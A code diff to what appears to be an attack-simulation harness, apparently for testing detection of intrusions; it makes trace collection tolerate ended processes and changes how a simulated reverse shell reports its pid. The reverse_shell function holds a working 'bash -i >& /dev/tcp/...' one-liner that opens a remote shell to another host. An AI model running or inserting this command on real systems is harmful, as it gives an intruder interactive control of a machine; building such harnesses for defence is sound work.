@@ -188,7 +188,12 @@ def told(process: subprocess.Popen[str], begins: str) -> str:
 
 
 def _traces(when: float, pid: int, owner: Account, address: str, path: Path | None = None) -> Traces:
-    return Traces(when, pid, start_time(pid), address, owner.name, path)
+    """pid 0, and one that has ended by now: there is no process any more, because somebody was quick to react."""
+    try:
+        started = start_time(pid)
+    except (FileNotFoundError, ProcessLookupError):
+        pid = started = 0
+    return Traces(when, pid, started, address, owner.name, path)
 
 
 # ---- the attacks ----
@@ -204,8 +209,8 @@ def reverse_shell(where: Network, owner: Account, address: str = FAR[0]) -> Iter
         when = time.time()
         command = f"bash -i >& /dev/tcp/{address}/{PORT} 0>&1"
         with running(within(where.near, ["bash", "-c", command], owner)):
-            pid = int(told(far, "pid="))
-            yield _traces(when, pid, owner, address)
+            said = told(far, "shell ")
+            yield _traces(when, 0 if said == "gone" else int(said.removeprefix("pid=")), owner, address)
 
 
 @contextlib.contextmanager
